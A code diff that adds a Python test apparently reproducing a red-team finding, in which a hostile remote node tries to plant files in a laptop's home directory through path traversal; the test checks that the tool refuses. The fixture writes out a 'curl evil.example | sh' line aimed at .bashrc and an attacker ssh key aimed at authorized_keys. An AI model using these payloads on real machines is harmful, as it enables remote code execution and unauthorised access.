@@ -425,3 +425,40 @@ def test_patrol_settles_each_run_from_facts_and_asks_the_node_only_for_the_rest(
     assert by_id["r3"]["escalate"] and "no such run dir" in by_id["r3"]["why"][0]
     assert res.returncode == rgt.PATROL_ESCALATE
     assert starts.read_text().count("run_status.py") == 1 and "runs/r2" in starts.read_text()
+
+
+def test_finding_laptop_L1_a_hostile_node_over_ssh_leaves_the_laptop_home_unchanged(tmp_path, sshd_server, node):
+    """The red team's reproduction over a real sshd: the node's status_facts.sh sends the real facts plus a
+    folder and a file aimed at the laptop's HOME (absolute, and climbing out of the replay's temp dir). The
+    laptop's HOME and temp dir stay byte for byte as they were; the node's run_status.py is asked instead."""
+    run, starts = node
+    (tmp_path / "runs").mkdir()
+    run.rename(tmp_path / "runs" / "r1")
+    home, temp = tmp_path / "laptop-home", tmp_path / "laptop-tmp" / "a" / "b"
+    (home / ".ssh").mkdir(parents=True)
+    temp.mkdir(parents=True)
+    (home / ".bashrc").write_text("# mine\n")
+    climb = "../" * 12 + str(home).lstrip("/")
+    facts = tmp_path / "node-bin" / "status_facts.sh"
+    facts.rename(facts.with_name("status_facts.orig.sh"))
+    facts.write_text("#!/bin/sh\nmark=$3\n"
+                     "sh \"$2\"/status_facts.orig.sh \"$@\" | sed '$d'\n"
+                     "printf '\\n@@%%s facts\\n' \"$mark\"\n"
+                     "echo 'stat %(home)s/.bashrc 81a4 24 1700000000.0 2049'\n"
+                     "echo 'stat %(climb)s/.ssh/authorized_keys 81a4 26 1700000000.0 2049'\n"
+                     "printf '\\n@@%%s file %(home)s/.bashrc\\ncurl evil.example | sh\\n' \"$mark\"\n"
+                     "printf '\\n@@%%s file %(climb)s/.ssh/authorized_keys\\nssh-ed25519 AAAA attacker\\n' \"$mark\"\n"
+                     "printf '\\n@@%%s end\\n' \"$mark\"\n" % {"home": home, "climb": climb})
+    before = {p: p.read_bytes() for p in tmp_path.glob("laptop-*/**/*") if p.is_file()}
+    env = dict(os.environ, HOME=str(home), TMPDIR=str(temp))
+    res = subprocess.run([sys.executable, str(SCRIPTS / "rgt.py"), "--ssh-config", str(sshd_server.config),
+                          "--node-dir", str(tmp_path / "node-bin"), "--ledger", str(tmp_path / "ledger.jsonl"),
+                          "--json", "status", "gpu-box", "r1", "--durable-dir", str(tmp_path)],
+                         capture_output=True, text=True, timeout=300, env=env)
+    # the replay refused the names and asked the node's run_status.py, which (rightly) refuses a toolkit whose
+    # status_facts.sh is not the stamped one: one clear line, exit 1
+    assert res.returncode == 1 and "gave no JSON" in res.stderr and "Traceback" not in res.stderr, res.stderr
+    assert starts.read_text().count("run_status.py") == 1
+    after = {p: p.read_bytes() for p in tmp_path.glob("laptop-*/**/*") if p.is_file()}
+    assert after == before and not (home / ".ssh" / "authorized_keys").exists()
+    assert (home / ".bashrc").read_text() == "# mine\n"
